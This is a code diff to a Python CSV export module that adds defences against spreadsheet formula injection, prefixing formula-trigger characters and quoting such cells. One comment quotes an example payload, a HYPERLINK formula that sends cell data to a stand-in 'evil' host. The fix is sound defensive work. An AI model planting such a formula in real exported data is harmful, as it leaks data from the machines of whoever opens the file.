@@ -2,20 +2,32 @@
 
 from __future__ import annotations
 
-import csv
-import io
-
 from signoff.audit import AuditEntry, format_time
 from signoff.export.lines import ENTRY_FIELDS
 
 CSV_COLUMNS = ENTRY_FIELDS
+# A spreadsheet runs a cell that starts with one of these as a formula: an agent-chosen
+# request id `=HYPERLINK("https://evil/?"&A1)` would leak or run on the auditor's machine.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NEEDS_QUOTES = (",", '"', "\r", "\n")
+
+
+def neutralise(cell: str) -> str:
+    """A cell a spreadsheet shows as text: a formula trigger gets a leading `'` (OWASP)."""
+    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell
+
+
+def _cell(value: str) -> str:
+    safe = neutralise(value)
+    # RFC 4180 quoting (what the csv module's QUOTE_MINIMAL does), and OWASP's: a neutralised
+    # cell is always quoted.
+    if safe is not value or any(c in value for c in _NEEDS_QUOTES):
+        return '"' + safe.replace('"', '""') + '"'
+    return value
 
 
 def _encode(row: list[str] | tuple[str, ...]) -> bytes:
-    out = io.StringIO()
-    # QUOTE_MINIMAL quotes fields holding commas, quotes or line breaks, per RFC 4180.
-    csv.writer(out, lineterminator="\r\n").writerow(row)
-    return out.getvalue().encode("utf-8")
+    return (",".join(_cell(v) for v in row) + "\r\n").encode("utf-8")
 
 
 def csv_header() -> bytes:
